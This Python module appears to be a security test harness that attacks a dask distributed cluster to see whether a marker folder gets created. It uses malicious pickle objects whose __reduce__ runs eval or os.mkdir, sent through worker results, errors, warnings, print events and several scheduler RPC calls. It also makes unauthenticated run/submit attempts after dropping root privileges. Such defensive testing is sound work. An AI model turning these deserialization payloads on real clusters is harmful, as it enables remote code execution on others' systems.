# SPDX-License-Identifier: BSD-2-Clause
"""Who attacks workers: `main(WHAT, ADDRESS, MARK[, KEY])`, in a process of its own, has others make the folder MARK.

It has all of dask, and the scheduler's key if it is given. What it says at the end does not matter; MARK does.
"""

import asyncio
import contextlib
import os
import pickle
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, NoReturn

import distributed
from distributed.core import rpc
from distributed.protocol.serialize import Serialize, Serialized, ToPickle, serialize
from distributed.security import Security
from distributed.worker import get_worker

from worldwise.run.workers import task_messages
from worldwise.run.workers.keys import new_key, read_key

NOBODY = 65534
# Each is a worker that has the key, and does this in place of a task.
WORKERS = ("returns", "raises", "warns", "prints")
# Each is a client that has the key, and asks the scheduler for this.
REQUESTS = ("run_function", "feed", "plugin", "dump", "graph", "message")


def evil(mark: str) -> tuple[Callable[..., object], tuple[object, ...]]:
    """What makes the folder wherever it is unpickled, but for this process: dask tries there whether it can be."""
    own = f"__import__('os').getpid() == {os.getpid()}"
    # Dask gives an error that it has unpickled a cause.
    return eval, (f"[{own} or __import__('os').mkdir({mark!r}), Exception('evil')][1]",)


class Evil:
    """Makes the folder when somebody unpickles it."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return evil(self.mark)


class EvilError(Exception):
    """The same, as an error that a task raises."""

    def __init__(self, mark: str) -> None:
        super().__init__("evil")
        self.mark = mark

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return evil(self.mark)


def worker(how: str, address: str, mark: str, security: Security) -> None:
    """Be a worker until somebody ends it."""

    def answer(_task: bytes) -> object:
        if how == "returns":
            return Evil(mark)
        if how == "raises":
            raise EvilError(mark)
        here = get_worker()
        if how == "warns":
            # Dask's client unpickles what a worker warns of, unasked.
            warning = {"message": pickle.dumps(Evil(mark)), "category": pickle.dumps(UserWarning)}
            here.log_event("warn", warning)
        else:
            event = {"op": "log-event", "topic": "print", "msg": ToPickle(Evil(mark))}
            here.loop.add_callback(here.batched_stream.send, event)
        time.sleep(0.5)
        return b'+"done"'

    task_messages.carried = answer  # type: ignore[assignment]

    async def serve() -> None:
        async with distributed.Worker(address, security=security, nthreads=1) as served:
            await served.finished()

    asyncio.run(serve())


async def ask(what: str, address: str, mark: str, security: Security) -> None:
    """Ask the scheduler once, as dask's own client would, or worse."""
    pickled = pickle.dumps(Evil(mark))
    async with rpc(address, connection_args=security.get_connection_args("client")) as scheduler:
        if what == "run_function":
            await scheduler.run_function(function=pickle.dumps(os.mkdir), args=pickle.dumps((mark,)))
        elif what == "feed":
            await scheduler.feed(function=pickled, interval=0.1)
        elif what == "plugin":
            await scheduler.register_scheduler_plugin(plugin=pickled, name="evil", idempotent=False)
        elif what == "dump":
            await scheduler.dump_cluster_state_to_url(url=f"file://{mark}", exclude=[], format="yaml")
        elif what == "message":
            await scheduler.identity(evil=ToPickle(Evil(mark)))
        else:
            await _graph(scheduler, Serialized(*serialize(Serialize(Evil(mark)), on_error="raise")))


async def _graph(scheduler: Any, graph: Serialized) -> None:
    comm = await scheduler.live_comm()
    await comm.write({"op": "register-client", "client": "evil", "reply": False, "versions": {}})
    update = {"op": "update-graph", "expr_ser": graph, "keys": {"x"}, "span_metadata": {}, "internal_priority": None}
    await comm.write([update | {"submitting_task": None}])
    await asyncio.sleep(1)


async def steal(address: str, mark: str, security: Security) -> None:
    """Without the key: have a worker, or the nanny of one, run a function; and a scheduler, by a task."""
    call = {"function": pickle.dumps(os.mkdir), "args": pickle.dumps((mark,))}
    with contextlib.suppress(Exception):
        async with rpc(address, connection_args=security.get_connection_args("client"), timeout=3) as server:
            await server.run(**call)
    with contextlib.suppress(Exception):
        async with distributed.Client(address, security=security, timeout=3, asynchronous=True) as client:
            await asyncio.wait_for(client.submit(os.mkdir, mark), 5)


def leave() -> NoReturn:
    """End whatever still runs."""
    os._exit(0)


def main(what: str, address: str, mark: str, key: str = "") -> None:
    """Attack. As root, with no key, it is another user who does so."""
    security = (read_key(Path(key)) if key else new_key()).security()
    if what in WORKERS:
        worker(what, address, mark, security)
        return
    timer = threading.Timer(20, leave)
    timer.daemon = True
    timer.start()
    if what in REQUESTS:
        asyncio.run(ask(what, address, mark, security))
        return
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
    plain = what == "steal-plainly"
    for each in address.split(","):
        asyncio.run(steal(each.replace("tls", "tcp") if plain else each, mark, Security() if plain else security))
